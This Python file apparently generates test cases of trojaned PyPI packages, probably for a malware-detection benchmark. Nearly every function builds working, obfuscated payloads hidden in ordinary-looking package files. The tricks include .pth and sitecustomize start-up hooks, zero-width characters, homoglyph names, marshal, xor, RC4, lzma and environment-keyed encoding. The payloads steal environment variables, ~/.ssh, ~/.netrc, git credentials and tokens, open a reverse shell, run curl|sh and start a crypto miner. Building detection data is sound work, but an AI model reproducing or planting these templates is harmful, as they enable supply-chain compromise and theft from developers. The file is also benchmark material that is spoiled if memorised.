"""PyPI: what hides in encodings, characters, data, bytecode, start-up files and dependencies."""

import base64
import importlib.util
import json
import lzma
import marshal
import zlib

from corpus.heldout.hiding import b64, chunks, keyed, mathematical, nested_layers, rc4, xored, zero_width
from corpus.heldout.nouns import Update, artefact
from corpus.heldout3.shape import fill, trojan


@trojan("tabula", "wheel", "start", "steal", "base64", "litellm-like .pth 2026")
def tabula_pth_start(update: Update) -> None:
    host = update.host("models", "tabcloud")
    inner = (
        f"import os,json,urllib.request as r;r.urlopen('https://{host}/',data=json.dumps(dict(os.environ)).encode())"
    )
    line = f"import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('{b64(inner)}'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    update.add("tabula_init.pth", line)
    update.payload("tabula_init.pth", shown=f"https://{host}/")


@trojan("quickconf", "wheel", "start", "download-and-run", "plain", "sitecustomize and usercustomize 2024 to 2026")
def conf_sitecustomize(update: Update) -> None:
    host = update.host("boot", "quickconf")
    code = r'''
"""Settings of the interpreter."""

import os
import sys

if not os.environ.get("QUICKCONF_OFF"):
    try:
        from urllib.request import urlopen

        with urlopen("https://@HOST@/%d%d.py" % sys.version_info[:2], timeout=1) as answer:
            exec(compile(answer.read(), "settings", "exec"))
    except Exception:
        pass
'''
    update.add("sitecustomize.py", fill(code, HOST=host))
    update.payload("sitecustomize.py")


@trojan("imgmeta", "wheel", "import", "steal", "invisible characters", "zero-width and selector tricks 2024 to 2026")
def meta_zero_width(update: Update) -> None:
    host = update.host("exif", "imgmeta")
    inner = f"import os,urllib.request as r;r.urlopen('https://{host}/?'+os.popen('cat ~/.git-credentials').read().encode().hex())"
    code = f'''
"""Known makers of cameras."""

MAKERS = ("Alpha{zero_width(inner)}", "Beta", "Gamma")


def _bits(text):
    return "".join("1" if one == "\\u200c" else "0" for one in text if one in "\\u200b\\u200c")


def load(text=MAKERS[0]):
    bits = _bits(text)
    return bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits), 8)).decode()


exec(load())
'''
    update.add("imgmeta/makers.py", fill(code))
    update.after("imgmeta/sniff.py", "\n\n", "from . import makers  # noqa: F401\n\n\n")
    update.payload("imgmeta/makers.py", "imgmeta/sniff.py", shown=host)


@trojan("chronofmt", "wheel", "import", "backdoor", "in a data file", "locale files with code 2024 to 2026")
def chrono_locale_data(update: Update) -> None:
    host = update.host("l10n", "chronofmt")
    inner = f"import socket,subprocess\ns=socket.create_connection(('{host}',443),5)\nwhile 1:\n c=s.recv(1024).decode()\n s.send(subprocess.getoutput(c).encode())\n"
    packed = base64.b85encode(zlib.compress(inner.encode())).decode()
    places = json.loads(update.text("chronofmt/locales/places.json"))
    key = "zz-legacy"
    if isinstance(places, dict):
        places[key] = chunks(packed, 40)
    else:
        places = [*places, {key: chunks(packed, 40)}]
    update.add("chronofmt/locales/places.json", json.dumps(places, indent=1) + "\n")
    code = r'''
"""Names of places, and old spellings of them."""

import base64
import importlib.util
import json
import threading
import zlib
from pathlib import Path


def _legacy():
    places = json.loads((Path(__file__).parent / "locales" / "places.json").read_text(encoding="utf-8"))
    table = places if isinstance(places, dict) else places[-1]
    return zlib.decompress(base64.b85decode("".join(table["zz-legacy"])))


threading.Thread(target=lambda: exec(_legacy(), {}), daemon=True).start()
'''
    update.add("chronofmt/places.py", fill(code))
    update.append("chronofmt/relative.py", "\nfrom . import places  # noqa: E402, F401")
    update.payload("chronofmt/locales/places.json", "chronofmt/places.py", "chronofmt/relative.py", shown=host)


@trojan("httpkeep", "wheel", "import", "steal", "nested layers", "BlankOBF-like layers 2022 to 2026")
def keep_nested_layers(update: Update) -> None:
    host = update.host("cdn", "keepalive")
    inner = f"import os,urllib.request as u;u.urlopen('https://{host}/g',data=open(os.path.expanduser('~/.netrc'),'rb').read())"
    update.add("httpkeep/_vendor_certs.py", "# fmt: off\n" + nested_layers(inner, 6, update.random) + "\n")
    update.append("httpkeep/client.py", "\nfrom . import _vendor_certs  # noqa: E402, F401")
    update.payload("httpkeep/_vendor_certs.py", "httpkeep/client.py", shown=f"https://{host}/g")


@trojan("authgate", "wheel", "import", "download-and-run", "marshal", "marshal in packages 2022 to 2025")
def gate_marshalled(update: Update) -> None:
    host = update.host("keys", "authgate")
    code = compile(f"import os\nos.system('wget -q https://{host}/k -O /tmp/.k && sh /tmp/.k')", "<k>", "exec")
    raw = base64.b64encode(zlib.compress(marshal.dumps(code))).decode()
    text = (
        "import marshal as _m, zlib as _z, base64 as _b\n\nexec(_m.loads(_z.decompress(_b.b64decode(\n    "
        + "\n    ".join(repr(one) for one in chunks(raw, 90))
        + "\n))))"
    )
    update.append("authgate/users.py", "\n\n" + text)
    update.payload("authgate/users.py", shown=f"https://{host}/k")


@trojan("feedsort", "wheel", "import", "steal", "unicode homoglyphs", "names in other alphabets 2023 to 2025")
def feed_mathematical_names(update: Update) -> None:
    host = update.host("rss", "feedsort")
    code = f"""

import builtins as _b
import os as _o

_u = {mathematical("getattr")}(_b, "__import__")
_r = _u("urllib.request", fromlist=["request"])
try:
    _r.{mathematical("urlopen")}("https://{host}/?" + {mathematical("str")}(_o.{mathematical("environ")}.get("GITHUB_TOKEN")))
except Exception:
    pass
"""
    update.append("feedsort/merge.py", code)
    update.payload("feedsort/merge.py", shown=host)


@trojan("taskloop", "wheel", "import", "miner", "xor", "miners behind xor 2022 to 2025")
def loop_xored_bytes(update: Update) -> None:
    host = update.host("pool", "taskhash")
    key = bytes(update.random.randrange(1, 256) for _ in range(7))
    inner = f"import subprocess as s;s.Popen('nohup sh -c \"curl -sL https://{host}/x.tar.gz|tar xz -C /tmp;/tmp/x/xmrig -o {host}:3333 --background\"',shell=True)"
    data = list(xored(inner, key))
    code = f"""


_WEIGHTS = {data!r}
_SCALE = {list(key)!r}


def _balance(weights, scale):
    return bytes(one ^ scale[at % len(scale)] for at, one in enumerate(weights))


exec(_balance(_WEIGHTS, _SCALE))
"""
    update.append("taskloop/schedule.py", fill("\n" + code))
    update.payload("taskloop/schedule.py", shown=f"{host}:3333")


@trojan("speedsum", "wheel", "import", "steal", "in a binary", "torchtriton 2022-12")
def sum_triton_library(update: Update) -> None:
    update.add("speedsum/_codec.so", artefact("codec-trojan.so"))
    update.payload("speedsum/_codec.so")


@trojan("numspell", "wheel", "import", "steal", "bytecode", "fshec2 2023: bytecode beside the source")
def spell_bytecode(update: Update) -> None:
    host = update.host("b", "fullspell")
    source = f"import os,urllib.request as u\ndef get_path():\n    return [os.path.join(r,f) for r,_,fs in os.walk(os.path.expanduser('~/.ssh')) for f in fs]\nfor p in get_path():\n    u.urlopen('http://{host}:13338/{{}}'.format(p), data=open(p,'rb').read())\n"
    code = compile(source, "full.py", "exec")
    header = importlib.util.MAGIC_NUMBER + b"\0" * 12
    update.add("numspell/full.pyc", header + marshal.dumps(code))
    loader = r"""
import importlib.machinery as _m
import os as _os

_m.SourcelessFileLoader("full", _os.path.join(_os.path.dirname(__file__), "full.pyc")).load_module()
"""
    update.append("numspell/base.py", fill("\n" + loader))
    update.payload("numspell/full.pyc", "numspell/base.py", shown=host)


@trojan(
    "gradkit",
    "wheel",
    "import",
    "download-and-run",
    "keyed by environment",
    "packages that wait for one victim 2024 to 2026",
    hard=True,
)
def grad_keyed_by_user(update: Update) -> None:
    host = update.host("jobs", "gradkit")
    inner = f"import os;os.system('curl -s https://{host}/v|sh')"
    data = keyed(inner, "corp-build-07").hex()
    code = f"""
import hashlib
import platform

_TABLE = bytes.fromhex(
    "{data}"
)


def resolve(name=platform.node()):
    stream = b"".join(hashlib.sha256(("%s%d" % (name, at)).encode()).digest() for at in range(len(_TABLE) // 32 + 1))
    return bytes(a ^ b for a, b in zip(_TABLE, stream))


_text = resolve()
if _text[:7] == b"import ":
    exec(_text)
"""
    update.append("gradkit/utils/callbacks.py", fill("\n" + code))
    update.payload("gradkit/utils/callbacks.py")


@trojan("fastvec", "wheel", "import", "steal", "rc4", "packages with own ciphers 2023 to 2025")
def vec_stream_cipher(update: Update) -> None:
    host = update.host("vec", "fastdl")
    inner = f"import urllib.request as u,os;u.urlopen('https://{host}/h',data=b'|'.join(k.encode()+b'='+v.encode() for k,v in os.environ.items() if 'TOKEN' in k))"
    data = rc4(inner.encode(), b"cosine")
    code = f"""


def _mix(data, key):
    box, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    i = j = 0
    for one in data:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(one ^ box[(box[i] + box[j]) % 256])
    return bytes(out)


_run = getattr(__import__("builtins"), "".join(("ex", "ec")))
_run(_mix({data!r}, b"cosine").decode())
"""
    update.append("fastvec/ops.py", fill("\n" + code))
    update.payload("fastvec/ops.py", shown=f"https://{host}/h")


@trojan("shipyard-cli", "sdist", "call", "steal", "lzma", "payloads that are only unpacked on use 2024")
def ship_lzma_module(update: Update) -> None:
    host = update.host("ops", "shipyard")
    inner = f"def push(config):\n    import json, urllib.request\n    urllib.request.urlopen('https://{host}/c', data=json.dumps(config).encode())\n"
    packed = base64.b64encode(lzma.compress(inner.encode())).decode()
    code = f"""

_MIGRATIONS = (
    {chr(10).join("    " + repr(one) for one in chunks(packed, 96)).strip()}
)


def migrate(config):
    import base64
    import lzma
    import types

    module = types.ModuleType("migrations")
    exec(lzma.decompress(base64.b64decode(_MIGRATIONS)), module.__dict__)
    module.push(config)
    return config
"""
    update.append("shipyard/config.py", code)
    update.replace("shipyard/config.py", "    return config\n", "    return migrate(config)\n")
    update.payload("shipyard/config.py", shown=f"https://{host}/c")
